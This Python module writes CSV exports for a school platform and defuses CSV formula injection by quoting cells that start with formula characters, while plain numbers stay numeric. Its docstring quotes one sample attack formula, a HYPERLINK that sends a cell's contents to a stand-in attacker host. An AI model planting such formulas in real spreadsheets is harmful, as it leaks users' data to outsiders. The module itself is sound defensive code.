"""Spreadsheet-safe CSV: the one writer every CSV export of the platform goes through (no Django import).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula: a name typed as `=HYPERLINK("https://evil.example?"&A1,"Click")` would run in the
school's spreadsheet ("CSV injection", OWASP). Such a cell is written with a leading single quote, which
the spreadsheet shows as text and does not evaluate (OWASP's recommendation).

Numbers stay numbers: an int, a Decimal or a float (a typed value the platform computed), and a text that
is exactly a plain decimal number such as `-3` or `-12.5`, are written as they are: a spreadsheet reads
them as numbers, never as formulas, and quoting them would turn a negative mark into text.
"""
import csv
import re
from decimal import Decimal

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)\Z")


def cell(value):
    """The value to write for one cell: unchanged, or text prefixed with a single quote."""
    if isinstance(value, (bool, int, float, Decimal)) or value is None:
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def row(values) -> list:
    return [cell(v) for v in values]


class _SafeWriter:
    """csv.writer whose writerow/writerows neutralise every cell."""

    def __init__(self, target, **kwargs):
        self._writer = csv.writer(target, **kwargs)

    def writerow(self, values):
        return self._writer.writerow(row(values))

    def writerows(self, rows):
        for values in rows:
            self.writerow(values)

    @property
    def dialect(self):
        return self._writer.dialect


def writer(target, **kwargs) -> _SafeWriter:
    """Like csv.writer(target, **kwargs), with every cell neutralised."""
    return _SafeWriter(target, **kwargs)


def dict_row(row_dict: dict) -> dict:
    """For csv.DictWriter users (Wagtail's spreadsheet exports): the same rule on each value."""
    return {key: cell(value) for key, value in row_dict.items()}
